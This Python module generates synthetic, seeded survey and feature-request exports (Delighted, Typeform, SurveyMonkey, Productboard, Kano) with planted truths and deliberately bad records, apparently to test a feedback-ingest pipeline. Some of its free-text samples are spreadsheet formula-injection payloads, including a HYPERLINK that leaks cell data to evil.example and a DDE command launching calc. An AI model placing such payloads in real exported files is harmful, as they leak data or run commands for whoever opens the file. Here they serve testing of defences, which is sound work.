"""Sample feedback exports with planted truths: NPS, CSAT, feature requests and a Kano questionnaire.

The respondents are the product users of the analytics sample (``sample_generator.people``: the same user ids, platforms
and plans for the same seed, users, days and start). Every vendor layout the feedback ingest reads is written at
least once under ``landing_dir / "feedback"``:

- ``delighted/survey_responses.json`` (API array) and ``delighted/delighted_export.csv`` (dashboard CSV): NPS
- ``typeform/product_feedback.csv`` (NPS; multi-select joined with " / ") and ``typeform/quarterly_checkin.csv``
  (NPS; multi-select split into one column per option; platform hidden field in lower case)
- ``surveymonkey/csat_survey.csv``: two header rows, a multi-option question spanning several columns, CSAT labels
- ``csat/csat_responses.csv``: the generic CSAT layout
- ``productboard/notes.csv``: feature requests linked by Jira key or by feature name only
- ``zendesk/tickets_page_1.json``, ``tickets_page_2.json`` (with users and organizations sideloaded),
  ``zendesk/ticket_fields.json``, ``zendesk/satisfaction_ratings.json``: feature requests and support tickets
- ``kano/kano_wide.csv`` (text answers) and ``kano/kano_long.csv`` (numeric 1-5 coding)

Planted: NPS promoter/passive/detractor probabilities per plan x platform segment (the plan is the user's plan at
the end of the analytics data: every NPS respondent answers after their last plan change); the CSAT score
distribution; the initiative vote distribution of feature requests; each Kano feature's true category with noise.
The realised figures are counted from what is written; the planted bad records (an NPS of 11, a CSAT of 0, an
unparseable date, a Kano answer "maybe") are extra records that never count, except the Kano "maybe", which
removes that one answer pair. Some respondents carry no user id, only an email address written with odd case and
spaces (linkable through ``ingest.common.identity.email_hash`` of ``sample_generator.people.user_email``).

Deterministic: every random stream is seeded from a string (``random.Random`` hashes it with SHA-512), rows are
sorted before they are written, JSON objects keep a fixed key order, files go to a hidden ``.partial``
name and are renamed.
"""

from __future__ import annotations

import csv
import functools
import io
import os
import random
from collections import Counter, defaultdict
from collections.abc import Iterable, Sequence
from dataclasses import asdict, dataclass, field
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

from sample_generator.analytics import weighted_choice
from sample_generator.indented_json import dumps_indented
from sample_generator.people import SampleUser, sample_users

NPS_QUESTION = "How likely are you to recommend us to a friend or colleague?"
NPS_REASON_QUESTION = "What is the main reason for your score?"
CSAT_QUESTION = "Overall, how satisfied are you with the product?"
FEATURES_QUESTION = "Which features do you use?"
FEATURE_OPTIONS = ("Dashboards", "Reports", "Alerts", "Data export", "API")
PLANS = ("free", "pro", "team")
PLATFORMS = ("iOS", "Android", "Web")

# (promoter, passive, detractor) per (plan, platform): paying teams are happier, Android users less so.
NPS_PROBABILITIES: dict[tuple[str, str], tuple[float, float, float]] = {
    ("free", "iOS"): (0.35, 0.30, 0.35),
    ("free", "Android"): (0.25, 0.30, 0.45),
    ("free", "Web"): (0.30, 0.30, 0.40),
    ("pro", "iOS"): (0.55, 0.30, 0.15),
    ("pro", "Android"): (0.45, 0.30, 0.25),
    ("pro", "Web"): (0.50, 0.30, 0.20),
    ("team", "iOS"): (0.70, 0.20, 0.10),
    ("team", "Android"): (0.60, 0.25, 0.15),
    ("team", "Web"): (0.65, 0.25, 0.10),
}
NPS_RESPONSE_PROBABILITY = {"free": 0.30, "pro": 0.90, "team": 0.90}  # surveys go mostly to paying customers
NPS_SOURCES = (  # where a respondent answers, with weights
    ("delighted_json", 0.35),
    ("delighted_csv", 0.25),
    ("typeform_product_feedback", 0.20),
    ("typeform_quarterly_checkin", 0.20),
)
DETRACTOR_SCORE_WEIGHTS = (1, 1, 1, 2, 3, 5, 7)  # scores 0..6
CSAT_SCORE_PROBABILITIES = {1: 0.06, 2: 0.08, 3: 0.14, 4: 0.32, 5: 0.40}
CSAT_RESPONSE_PROBABILITY = 0.25
CSAT_SOURCES = (("surveymonkey", 0.55), ("generic_csv", 0.45))
CSAT_LABELS = {
    1: "1 - Very dissatisfied",
    2: "2 - Dissatisfied",
    3: "3 - Neither satisfied nor dissatisfied",
    4: "4 - Satisfied",
    5: "5 - Very satisfied",
}
P_EMAIL_ONLY = 0.15  # respondents whose record carries no user id, only an email address

# Feature requests. Must agree with config/pmw.yml feedback.kano_features (a test checks it).
FEATURE_INITIATIVES = {"report_sharing": "PROD-1", "guided_onboarding": "PROD-2", "data_export": "PROD-3"}
FEATURE_NAMES = {  # feature key -> the name a product manager gives it in Productboard / the Zendesk field option
    "report_sharing": "Report sharing",
    "guided_onboarding": "Guided onboarding",
    "data_export": "Data export",
    "dark_mode": "Dark mode",
    "slack_integration": "Slack integration",
    "sso": "Single sign-on",
}
UNLINKED_FEATURES = ("dark_mode", "slack_integration", "sso", None)  # requests that belong to no initiative
INITIATIVE_VOTE_WEIGHTS = {"PROD-1": 0.50, "PROD-2": 0.20, "PROD-3": 0.30}
P_REQUEST_LINKED = 0.75  # share of feature requests about an initiative's feature
P_JIRA_KEY = {"productboard": 0.60, "zendesk": 0.70}  # linked requests that carry the Jira key (else the name only)
PRODUCTBOARD_NOTES_PER_USER = 0.08
ZENDESK_FEATURE_REQUESTS_PER_USER = 0.045
ZENDESK_SUPPORT_TICKETS_PER_USER = 0.03

# Kano: the DESIGN.md evaluation table, rows functional, columns dysfunctional.
KANO_ANSWERS = ("like", "expect", "neutral", "live_with", "dislike")
KANO_CATEGORIES = ("A", "O", "M", "I", "R", "Q")
_KANO_TABLE = (
    "QAAAO",  # like
    "RIIIM",  # expect
    "RIIIM",  # neutral
    "RIIIM",  # live with
    "RRRRQ",  # dislike
)
KANO_PLANTED: dict[str, tuple[str, float]] = {  # feature -> (true category, share answering the archetype pair)
    "report_sharing": ("A", 0.75),
    "guided_onboarding": ("M", 0.72),
    "data_export": ("O", 0.78),
    "dark_mode": ("I", 0.74),
}
KANO_WORDINGS = {
    "like": ("I like it", "I like it that way"),
    "expect": ("I expect it", "It must be that way"),
    "neutral": ("I am neutral", "I don't care"),
    "live_with": ("I can live with it", "I can tolerate it"),
    "dislike": ("I dislike it", "I don't like it"),
}
KANO_NUMERIC = {answer: str(i + 1) for i, answer in enumerate(KANO_ANSWERS)}  # 1 like ... 5 dislike
# Must equal config/pmw.yml feedback.kano_features (a test checks it): feature -> (functional, dysfunctional,
# importance or None).
KANO_QUESTIONS: dict[str, tuple[str, str, str | None]] = {
    "report_sharing": (
        "How would you feel if you could share reports with a link?",
        "How would you feel if you could not share reports with a link?",
        "How important is sharing reports with a link to you?",
    ),
    "guided_onboarding": (
        "How would you feel if the product guided you through setup?",
        "How would you feel if the product did not guide you through setup?",
        None,
    ),
    "data_export": (
        "How would you feel if you could export your data to CSV?",
        "How would you feel if you could not export your data to CSV?",
        None,
    ),
    "dark_mode": (
        "How would you feel if the product had a dark mode?",
        "How would you feel if the product had no dark mode?",
        None,
    ),
}
KANO_WIDE_RESPONDENTS_PER_USER = 0.09
KANO_LONG_RESPONDENTS_PER_USER = 0.07
P_KANO_EMAIL = 0.9

# Free text: spreadsheet formula injection attempts, unicode, quotes, multi-line cells.
FORMULA_TEXTS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your discount")',
    "+1 love the new dashboards",
    "-5 stars if I could, exports keep failing",
    "@channel the iOS app crashes on launch",
    "=cmd|' /C calc'!A0",
)
TRICKY_TEXTS = (
    "Great product 👍\nBut the Android app is slow.\n\nThanks!",
    'Very "good", but: commas, quotes; and semicolons',
    "Très bien — mais l'export CSV coupe les accents : é, ü, ß",
    "レポートの共有がとても便利です",
    "Line one\r\nLine two (a Windows line break)",
    "Ünïcödé 🚀 and a tab\tinside",
)
COMMENTS = {
    "promoter": ("Love it", "Saves me hours every week", "Best reporting tool we have used", "Great support team"),
    "passive": ("Good, but pricey", "Does the job", "Missing a few integrations", "OK overall"),
    "detractor": ("Too slow", "Exports keep failing", "Confusing setup", "The app crashes on my phone"),
}
CSAT_COMMENTS = ("Works well", "Could be faster", "Support answered quickly", "Hard to find settings", "Nice")
FORMULA_START = ("=", "+", "-", "@")

SECOND = 1
HOUR = 3600
DAY = 86_400


# --------------------------------------------------------------------------------------------------- truths


@dataclass(frozen=True)
class BadRecord:
    """One deliberately bad record; ingest must quarantine exactly these (the Kano one: that answer pair)."""

    file: str  # relative to the landing dir, POSIX separators
    record: int  # 1-based data record (CSV row after the header row(s), JSON array element)
    kind: str  # nps_out_of_range | csat_out_of_range | unparseable_date | kano_unknown_answer
    field: str  # column header or JSON field
    value: str


@dataclass(frozen=True)
class TextCell:
    """A free-text cell that starts like a spreadsheet formula (=, +, -, @)."""

    file: str
    record: int
    field: str


@dataclass(frozen=True)
class NpsCounts:
    responses: int
    promoters: int
    passives: int
    detractors: int
    nps: float  # % promoters - % detractors

    @staticmethod
    def of(scores: Iterable[int]) -> NpsCounts:
        scores = list(scores)
        p = sum(s >= 9 for s in scores)
        d = sum(s <= 6 for s in scores)
        n = len(scores)
        return NpsCounts(n, p, n - p - d, d, round(100 * (p - d) / n, 6) if n else 0.0)


@dataclass(frozen=True)
class NpsTruth:
    question: str
    # "plan|platform" -> (promoter, passive, detractor) probabilities
    planted_probabilities: dict[str, tuple[float, float, float]]
    planted_response_probability_by_plan: dict[str, float]
    realised_total: NpsCounts
    realised_by_segment: dict[str, NpsCounts]  # "plan|platform"
    realised_by_month: dict[str, NpsCounts]  # YYYY-MM of the response time (UTC)
    realised_by_segment_and_month: dict[str, dict[str, NpsCounts]]
    realised_by_source: dict[str, NpsCounts]
    score_histogram: dict[int, int]
    email_only_responses: int  # valid responses without a user id: linked through the email hash only
    respondent_segments: dict[str, str]  # user id -> "plan|platform" (each user answers at most once)


@dataclass(frozen=True)
class CsatTruth:
    question: str
    planted_score_probabilities: dict[int, float]
    planted_satisfied_share: float  # P(score 4 or 5)
    realised_responses: int
    realised_satisfied: int
    realised_csat: float  # satisfied / responses
    realised_by_score: dict[int, int]
    realised_by_source: dict[str, tuple[int, int]]  # source -> (responses, satisfied)
    email_only_responses: int


@dataclass(frozen=True)
class InitiativeRequests:
    requests: int
    unique_users: int
    # sample_generator.people account ids, across vendors, of the requests whose record names the company (a
    # Productboard note with a blank Company names none: no pipeline can count its account)
    unique_accounts: int
    by_vendor: dict[str, int]
    unique_accounts_by_vendor: dict[str, int]
    by_link: dict[str, int]  # jira_key (the record names the Jira key) | feature_name (only the feature's name)


@dataclass(frozen=True)
class FeatureRequestTruth:
    planted_initiative_weights: dict[str, float]
    planted_linked_share: float
    feature_initiatives: dict[str, str]  # feature key -> Jira key (as config feedback.kano_features)
    feature_names: dict[str, str]  # feature key -> display name used in Productboard and the Zendesk field
    realised_by_initiative: dict[str, InitiativeRequests]
    unlinked_requests: int  # feature requests that belong to no initiative
    requests_by_vendor: dict[str, int]  # all feature requests (Productboard notes, Zendesk feature_request tickets)
    zendesk_support_tickets: int  # tickets that are not feature requests
    zendesk_satisfaction: dict[str, int]  # satisfaction_rating.score on the tickets -> tickets


@dataclass(frozen=True)
class KanoFeatureTruth:
    feature: str
    initiative: str | None
    planted_category: str
    planted_archetype_share: float
    planted_category_shares: dict[str, float]  # expected shares with the noise model
    realised_pairs: int
    realised_counts: dict[str, int]  # A O M I R Q
    realised_counts_by_layout: dict[str, dict[str, int]]  # wide | long
    dominant_category: str
    better: float  # (A+O)/(A+O+M+I)
    worse: float  # -(O+M)/(A+O+M+I)
    importance_answers: int
    importance_mean: float | None


@dataclass(frozen=True)
class KanoTruth:
    answers: tuple[str, ...]
    numeric_coding: dict[str, str]
    evaluation_table: tuple[str, ...]  # rows functional, columns dysfunctional, in answers order
    respondents_by_layout: dict[str, int]
    features: dict[str, KanoFeatureTruth]
    excluded_pairs: tuple[tuple[str, int, str], ...]  # (file, record, feature): a pair with an invalid answer


@dataclass(frozen=True)
class FeedbackTruths:
    seed: int
    start: date
    end: date  # exclusive
    days: int
    users: int
    plan_source: str
    email_scheme: str
    nps: NpsTruth
    csat: CsatTruth
    feature_requests: FeatureRequestTruth
    kano: KanoTruth
    bad_records: tuple[BadRecord, ...]
    formula_like_cells: tuple[TextCell, ...]
    multiline_cells: int  # free-text cells holding a line break
    records_by_file: dict[str, int]  # data records per file, bad ones included
    files: tuple[str, ...]  # relative to the landing dir, POSIX separators, sorted

    def to_dict(self) -> dict[str, Any]:
        """A JSON-ready dict (dates as ISO strings, tuples as lists, mapping keys as strings)."""
        return _jsonable(asdict(self))


def _jsonable(value: Any) -> Any:
    if isinstance(value, dict):
        return {str(k): _jsonable(v) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [_jsonable(v) for v in value]
    if isinstance(value, date):
        return value.isoformat()
    return value


def kano_category(functional: str, dysfunctional: str) -> str:
    """The DESIGN.md evaluation table: A, O, M, I, R or Q for an answer pair (answers as in KANO_ANSWERS)."""
    return _KANO_TABLE[KANO_ANSWERS.index(functional)][KANO_ANSWERS.index(dysfunctional)]


def segment_key(plan: str, platform: str) -> str:
    return f"{plan}|{platform}"


# --------------------------------------------------------------------------------------------------- helpers


def _rng(seed: int, *purpose: object) -> random.Random:
    return random.Random(_stream_name(seed, *purpose))


def _stream_name(seed: int, *purpose: object) -> str:
    # The stream namespace keeps the module's former name (pmw.sample.feedback), so a seed gives the same sample.
    return ":".join(["pmw.sample.feedback", str(seed), *map(str, purpose)])


class _Stream:
    """A record's own random stream (a survey response, a request, a Kano respondent), kept between drawing the
    record and writing it as its name and the number of draws taken: a ``random.Random`` holds 2.5 KB of state, and
    one per record was most of feedback's memory at scale. Only ``random()`` is drawn (two state words each), so
    ``resume`` replays that many draws and gives the very stream the writer would have continued."""

    __slots__ = ("_rng", "draws", "name")

    def __init__(self, name: str):
        self.name = name
        self.draws = 0
        self._rng: random.Random | None = random.Random(name)

    def random(self) -> float:
        if self._rng is None:
            raise RuntimeError(f"stream {self.name!r} is parked: resume() it, then draw from what that returns")
        self.draws += 1
        return self._rng.random()

    def parked(self) -> _Stream:
        """The same stream without its state, until ``resume``."""
        self._rng = None
        return self

    def resume(self) -> random.Random:
        """A ``random.Random`` where this stream was parked (to be drawn from once: each record is written once)."""
        rng = random.Random(self.name)
        draw = rng.random
        for _ in range(self.draws):
            draw()
        return rng


_Draws = random.Random | _Stream  # what the drawing helpers take: a stream being drawn, or a resumed one


def _between(rng: _Draws, lo: int, hi: int) -> int:
    return lo + int(rng.random() * (hi - lo + 1))


def _token(rng: _Draws, n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789") -> str:
    draw, size = rng.random, len(alphabet)  # the same n draws, without a generator frame per character
    return "".join([alphabet[int(draw() * size)] for _ in range(n)])


def _utc(t: int) -> datetime:
    return datetime.fromtimestamp(t, UTC)


def _iso(t: int) -> str:
    """``YYYY-MM-DDTHH:MM:SSZ`` (UTC)."""
    day, rem = divmod(t, DAY)
    return f"{_day_text(day)}T{rem // 3600:02d}:{rem // 60 % 60:02d}:{rem % 60:02d}Z"


def _month(t: int) -> str:
    return _day_text(t // DAY)[:7]


@functools.cache
def _day_text(day: int) -> str:
    """``YYYY-MM-DD`` of a day since the epoch: a few hundred days, formatted once per response at scale."""
    return _utc(day * DAY).strftime("%Y-%m-%d")


def _messy_email(rng: _Draws, email: str) -> str:
    """The same address as people type it: odd case, surrounding spaces (email_hash normalises these)."""
    local, domain = email.split("@")
    variant = int(rng.random() * 4)
    if variant == 0:
        return email
    if variant == 1:
        return f"{local.capitalize()}@{domain.upper()}"
    if variant == 2:
        return f"  {email} "
    return f"{local.upper()}@{domain}"


def _free_text(rng: _Draws, pool: Sequence[str], *, p_empty: float = 0.35, p_tricky: float = 0.12) -> str:
    r = rng.random()
    if r < p_empty:
        return ""
    if r < p_empty + p_tricky:
        tricky = FORMULA_TEXTS + TRICKY_TEXTS
        return tricky[int(rng.random() * len(tricky))]
    return pool[int(rng.random() * len(pool))]


def _write_atomic(path: Path, data: bytes) -> None:
    """Write under a hidden temporary name, then rename: a landing sensor never sees half a file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.partial")
    tmp.write_bytes(data)
    os.replace(tmp, path)


def _csv_bytes(rows: Iterable[Sequence[Any]], *, bom: bool = False) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerows(rows)
    return (("\ufeff" if bom else "") + buf.getvalue()).encode("utf-8")


def _json_bytes(obj: Any) -> bytes:
    return (dumps_indented(obj, 1) + "\n").encode("utf-8")  # json.dumps(indent=1), faster


class _Output:
    """Writes files and keeps the per-file bookkeeping the truths report (records, free-text cells, bad records)."""

    def __init__(self, landing_dir: Path):
        self.landing_dir = landing_dir
        self.root = landing_dir / "feedback"
        self.files: list[str] = []
        self.records: dict[str, int] = {}
        self.bad: list[BadRecord] = []
        self.formula_cells: list[TextCell] = []
        self.multiline = 0

    def rel(self, name: str) -> str:
        return (self.root / name).relative_to(self.landing_dir).as_posix()

    def text(self, name: str, record: int, field_name: str, text: str | None) -> None:
        if not text:
            return
        if text.startswith(FORMULA_START):
            self.formula_cells.append(TextCell(self.rel(name), record, field_name))
        if "\n" in text or "\r" in text:
            self.multiline += 1

    def bad_record(self, name: str, record: int, kind: str, field_name: str, value: str) -> None:
        self.bad.append(BadRecord(self.rel(name), record, kind, field_name, value))

    def write(self, name: str, data: bytes, records: int) -> None:
        _write_atomic(self.root / name, data)
        self.files.append(self.rel(name))
        self.records[self.rel(name)] = records


# --------------------------------------------------------------------------------------------------- surveys


@dataclass(slots=True)
class _Response:
    user: SampleUser
    at: int  # epoch seconds, UTC
    score: int
    comment: str
    email_only: bool
    rng: _Stream  # the respondent's own stream, for layout details (resumed by the writer)
    source: str = ""
    bad_kind: str | None = None  # a planted bad record: never counted


def _response_time(rng: _Draws, user: SampleUser, end_s: int) -> int | None:
    """A time after the user's last plan change (so the plan written is the user's final plan) and before the end."""
    lo, hi = user.plan_since + HOUR, end_s - HOUR
    return _between(rng, lo, hi) if lo < hi else None


def _nps_score(rng: _Draws, plan: str, platform: str) -> int:
    kinds = zip(("promoter", "passive", "detractor"), NPS_PROBABILITIES[plan, platform], strict=True)
    kind = weighted_choice(rng, list(kinds))
    if kind == "promoter":
        return 9 if rng.random() < 0.4 else 10
    if kind == "passive":
        return 7 if rng.random() < 0.5 else 8
    return weighted_choice(rng, list(enumerate(DETRACTOR_SCORE_WEIGHTS)))


def _nps_kind(score: int) -> str:
    return "promoter" if score >= 9 else "passive" if score >= 7 else "detractor"


def _nps_responses(people: Sequence[SampleUser], seed: int, end_s: int) -> dict[str, list[_Response]]:
    by_source: dict[str, list[_Response]] = {s: [] for s, _w in NPS_SOURCES}
    for user in people:
        rng = _Stream(_stream_name(seed, "nps", user.user_id))
        if rng.random() >= NPS_RESPONSE_PROBABILITY[user.plan]:
            continue
        at = _response_time(rng, user, end_s)
        if at is None:
            continue
        score = _nps_score(rng, user.plan, user.platform)
        comment = _free_text(rng, COMMENTS[_nps_kind(score)])
        source = weighted_choice(rng, NPS_SOURCES)
        email_only = rng.random() < P_EMAIL_ONLY
        by_source[source].append(_Response(user, at, score, comment, email_only, rng.parked(), source))
    for responses in by_source.values():
        responses.sort(key=lambda r: (r.at, r.user.user_id))
    return by_source


def _csat_responses(people: Sequence[SampleUser], seed: int, start_s: int, end_s: int) -> dict[str, list[_Response]]:
    by_source: dict[str, list[_Response]] = {s: [] for s, _w in CSAT_SOURCES}
    for user in people:
        rng = _Stream(_stream_name(seed, "csat", user.user_id))
        if rng.random() >= CSAT_RESPONSE_PROBABILITY:
            continue
        lo, hi = max(start_s, user.signed_up_at) + HOUR, end_s - HOUR
        if lo >= hi:
            continue
        at = _between(rng, lo, hi)
        score = weighted_choice(rng, list(CSAT_SCORE_PROBABILITIES.items()))
        comment = _free_text(rng, CSAT_COMMENTS, p_empty=0.5)
        source = weighted_choice(rng, CSAT_SOURCES)
        email_only = rng.random() < P_EMAIL_ONLY
        by_source[source].append(_Response(user, at, score, comment, email_only, rng.parked(), source))
    for responses in by_source.values():
        responses.sort(key=lambda r: (r.at, r.user.user_id))
    return by_source


def _insert_bad(responses: list[_Response], template: _Response, kind: str, score: int) -> int:
    """Insert a bad copy of template's respondent in the middle; returns its 1-based record number."""
    at = len(responses) // 2
    rng = _Stream(f"bad:{kind}:{template.user.user_id}").parked()
    responses.insert(at, _Response(template.user, template.at, score, "", False, rng, template.source, kind))
    return at + 1


def _write_delighted_json(out: _Output, responses: list[_Response]) -> None:
    items = []
    for n, r in enumerate(responses, start=1):
        u, rng = r.user, r.rng.resume()
        person_id = str(50_000_000 + u.index)
        properties = {"Delighted Source": weighted_choice(rng, [("Email", 0.6), ("Web", 0.3), ("SMS", 0.1)])}
        properties |= {"plan": u.plan, "platform": u.platform}
        expanded = r.email_only or rng.random() < 0.7  # a bare person id always comes with the user_id property
        if not r.email_only:
            properties["user_id"] = u.user_id
        person: Any = person_id
        if expanded:
            email = _messy_email(rng, u.email) if r.email_only else u.email
            person = {"id": person_id, "email": email, "name": u.name, "created_at": u.signed_up_at}
        response_id = str(136_000_000 + n * 7)
        updated = r.at + _between(rng, HOUR, 3 * DAY) if rng.random() < 0.2 else r.at  # a later edit of the comment
        items.append({
            "id": response_id, "person": person, "survey_type": "nps", "score": r.score,
            "comment": r.comment or None, "permalink": f"https://app.delighted.com/r/{_token(rng, 24)}",
            "created_at": r.at, "updated_at": updated,
            "person_properties": properties, "notes": [], "tags": ["follow-up"] if r.score <= 3 else [],
            "additional_answers": [],
        })  # fmt: skip
        out.text("delighted/survey_responses.json", n, "comment", r.comment)
    out.write("delighted/survey_responses.json", _json_bytes(items), len(items))


def _write_delighted_csv(out: _Output, responses: list[_Response]) -> None:
    name = "delighted/delighted_export.csv"
    header = ["Response ID", "Score", "Comment", "Email", "Name", "Created At", "Updated At", "Delighted Source",
              "plan", "platform", "user_id", "Tags", "Notes"]  # fmt: skip
    rows: list[list[Any]] = [header]
    for n, r in enumerate(responses, start=1):
        u, rng = r.user, r.rng.resume()
        created = _utc(r.at).strftime("%Y-%m-%d %H:%M:%S UTC")
        if r.bad_kind == "unparseable_date":
            created = "2024-02-30 14:05:12 UTC"
            out.bad_record(name, n, r.bad_kind, "Created At", created)
        updated = _utc(r.at + _between(rng, 0, DAY)).strftime("%Y-%m-%d %H:%M:%S UTC")
        rows.append([
            str(137_000_000 + n * 11), r.score, r.comment, _messy_email(rng, u.email) if r.email_only else u.email,
            u.name, created, updated, "Email", u.plan, u.platform, "" if r.email_only else u.user_id,
            "vip, beta" if u.plan == "team" and rng.random() < 0.3 else "", "",
        ])  # fmt: skip
        out.text(name, n, "Comment", r.comment)
    out.write(name, _csv_bytes(rows), len(responses))


def _typeform_rows(out: _Output, name: str, responses: list[_Response], *, split: bool) -> list[list[Any]]:
    hidden = ["user_id", "email", "plan", "platform"]
    times = ["Start Date (UTC)", "Submit Date (UTC)", "Network ID"]
    if split:
        header = ["#", NPS_QUESTION, *FEATURE_OPTIONS, "Anything else you would like to tell us?", *hidden, *times]
    else:
        header = ["#", NPS_QUESTION, NPS_REASON_QUESTION, FEATURES_QUESTION, *hidden, *times, "Tags"]
    rows: list[list[Any]] = [header]
    for n, r in enumerate(responses, start=1):
        u, rng = r.user, r.rng.resume()
        chosen = [o for o in FEATURE_OPTIONS if rng.random() < 0.45]
        features = [o if o in chosen else "" for o in FEATURE_OPTIONS] if split else [" / ".join(chosen)]
        email = _messy_email(rng, u.email) if r.email_only else (u.email if rng.random() < 0.5 else "")
        # Hidden fields come from the survey link: this form's link writes the platform in lower case.
        platform = u.platform.lower() if split else u.platform
        hidden_values = ["" if r.email_only else u.user_id, email, u.plan, platform]
        submitted = _utc(r.at).strftime("%Y-%m-%d %H:%M:%S")
        started = _utc(r.at - _between(rng, 20, 600)).strftime("%Y-%m-%d %H:%M:%S")
        row = [_token(rng, 32), r.score]
        if split:
            row += [*features, r.comment]
        else:
            row += [r.comment, *features]
        row += [*hidden_values, started, submitted, _token(rng, 10, "0123456789abcdef")]
        if not split:
            row.append("nps,in-app" if rng.random() < 0.2 else "")
        if r.bad_kind == "nps_out_of_range":
            out.bad_record(name, n, r.bad_kind, NPS_QUESTION, str(r.score))
        out.text(name, n, "Anything else you would like to tell us?" if split else NPS_REASON_QUESTION, r.comment)
        rows.append(row)
    return rows


def _write_surveymonkey(out: _Output, responses: list[_Response]) -> None:
    name = "surveymonkey/csat_survey.csv"
    use_question = "Which of these do you use?"
    options = ("Dashboards", "Reports", "Alerts", "Other (please specify)")
    better = "What could we do better?"
    meta = ["Respondent ID", "Collector ID", "Start Date", "End Date", "IP Address", "Email Address", "First Name",
            "Last Name", "Custom Data 1"]  # fmt: skip
    row1 = [*meta, CSAT_QUESTION, use_question, *[""] * (len(options) - 1), better]
    row2 = [*[""] * len(meta), "Response", *options, "Open-Ended Response"]
    rows: list[list[Any]] = [row1, row2]
    for n, r in enumerate(responses, start=1):
        u, rng = r.user, r.rng.resume()
        first, _sp, last = u.name.partition(" ")
        other = "Zapier" if rng.random() < 0.1 else ""
        used = [o if rng.random() < 0.5 else "" for o in options[:-1]] + [other]
        end = _utc(r.at).strftime("%m/%d/%Y %I:%M:%S %p")
        begin = _utc(r.at - _between(rng, 30, 900)).strftime("%m/%d/%Y %I:%M:%S %p")
        rows.append([
            str(114_200_000_000 + n * 13), "431275830", begin, end, f"203.0.113.{_between(rng, 1, 254)}",
            _messy_email(rng, u.email) if r.email_only else u.email, first, last, "" if r.email_only else u.user_id,
            CSAT_LABELS[r.score], *used, r.comment,
        ])  # fmt: skip
        out.text(name, n, better, r.comment)
    out.write(name, _csv_bytes(rows, bom=True), len(responses))


def _write_csat_csv(out: _Output, responses: list[_Response]) -> None:
    name = "csat/csat_responses.csv"
    rows: list[list[Any]] = [["response_id", "user_id", "email", "score", "comment", "responded_at"]]
    for n, r in enumerate(responses, start=1):
        u, rng = r.user, r.rng.resume()
        if r.bad_kind == "csat_out_of_range":
            out.bad_record(name, n, r.bad_kind, "score", str(r.score))
        email = _messy_email(rng, u.email) if r.email_only else (u.email if rng.random() < 0.5 else "")
        rows.append([f"csat-{n:06d}", "" if r.email_only else u.user_id, email, r.score, r.comment, _iso(r.at)])
        out.text(name, n, "comment", r.comment)
    out.write(name, _csv_bytes(rows), len(responses))


# --------------------------------------------------------------------------------------------------- requests


@dataclass(slots=True)
class _Request:
    vendor: str
    user: SampleUser
    at: int
    feature: str | None  # feature key
    initiative: str | None
    jira_key_written: bool
    title: str
    rng: _Stream  # resumed by the writer
    # False once the export has left the requester's company out (a Productboard note with a blank Company)
    account_written: bool = True


REQUEST_TITLES = {
    "report_sharing": ("Share a report with a public link", "Let clients view shared dashboards",
                       "Share reports with people outside our workspace"),
    "guided_onboarding": ("Setup wizard for new workspaces", "Onboarding checklist for new teammates",
                          "Walk me through connecting my data"),
    "data_export": ("Export report data to CSV", "Scheduled exports to S3", "Excel export that keeps formatting"),
    "dark_mode": ("Dark mode please 🌙", "Night theme for the dashboard"),
    "slack_integration": ("Post alerts to Slack", "Slack digest of weekly KPIs"),
    "sso": ("Okta SSO", "SAML login for our team"),
    None: ("Pricing page is confusing", "Faster load times on big reports", "Überblick page should remember filters"),
}  # fmt: skip
SUPPORT_SUBJECTS = (
    "Cannot log in after password reset", "Invoice shows the wrong VAT number", "How do I invite a teammate?",
    "Report stuck on loading", "Change the billing email", "Données manquantes dans le rapport",
)  # fmt: skip


def _requests(
    people: Sequence[SampleUser], seed: int, end_s: int, vendor: str, count: int, *, support: bool = False
) -> list[_Request]:
    """count feature requests (or, with support, support questions) from random users, sorted by time."""
    eligible = [u for u in people if u.signed_up_at + 2 * HOUR < end_s - HOUR]
    out = []
    for k in range(count):
        rng = _Stream(_stream_name(seed, "support" if support else "request", vendor, k))
        user = eligible[int(rng.random() * len(eligible))]
        at = _between(rng, user.signed_up_at + HOUR, end_s - HOUR)
        initiative: str | None = None
        feature: str | None = None
        jira = False
        if support:
            titles: Sequence[str] = SUPPORT_SUBJECTS
        elif rng.random() < P_REQUEST_LINKED:
            initiative = weighted_choice(rng, list(INITIATIVE_VOTE_WEIGHTS.items()))
            feature = next(f for f, key in FEATURE_INITIATIVES.items() if key == initiative)
            jira = rng.random() < P_JIRA_KEY[vendor]
            titles = REQUEST_TITLES[feature]
        else:
            feature = UNLINKED_FEATURES[int(rng.random() * len(UNLINKED_FEATURES))]
            titles = REQUEST_TITLES[feature]
        title = titles[int(rng.random() * len(titles))]
        if rng.random() < 0.05:
            title = FORMULA_TEXTS[int(rng.random() * len(FORMULA_TEXTS))]
        out.append(_Request(vendor, user, at, feature, initiative, jira, title, rng.parked()))
    out.sort(key=lambda r: (r.at, r.user.user_id, r.title))
    return out


def _write_productboard(out: _Output, notes: list[_Request]) -> None:
    name = "productboard/notes.csv"
    header = ["Note ID", "Title", "Content", "Customer email", "Customer name", "Company name", "Company domain",
              "Tags", "Features", "Jira key", "Source", "Created at", "Owner"]  # fmt: skip
    rows: list[list[Any]] = [header]
    for n, r in enumerate(notes, start=1):
        u, rng = r.user, r.rng.resume()
        h = _token(rng, 32, "0123456789abcdef")
        note_id = f"{h[:8]}-{h[8:12]}-4{h[13:16]}-8{h[17:20]}-{h[20:]}"
        source = weighted_choice(rng, [("Intercom", 0.4), ("Email", 0.3), ("Slack", 0.2), ("Chrome extension", 0.1)])
        content = f"{r.title}\n\n{u.name} ({u.account_name}) asked for this on {source}.\nQuote: « we need it weekly »"
        has_company = rng.random() > 0.05
        r.account_written = has_company
        tags = ["feature request"] + (["enterprise"] if u.plan == "team" else []) + (["urgent"] * (rng.random() < 0.1))
        rows.append([
            note_id, r.title, content, _messy_email(rng, u.email) if rng.random() < 0.2 else u.email, u.name,
            u.account_name if has_company else "", u.account_domain if has_company else "", ", ".join(tags),
            FEATURE_NAMES[r.feature] if r.feature else "", r.initiative if r.jira_key_written else "", source,
            _iso(r.at), "Priya Patel" if rng.random() < 0.5 else "Jonas Müller",
        ])  # fmt: skip
        out.text(name, n, "Title", r.title)
        out.text(name, n, "Content", content)
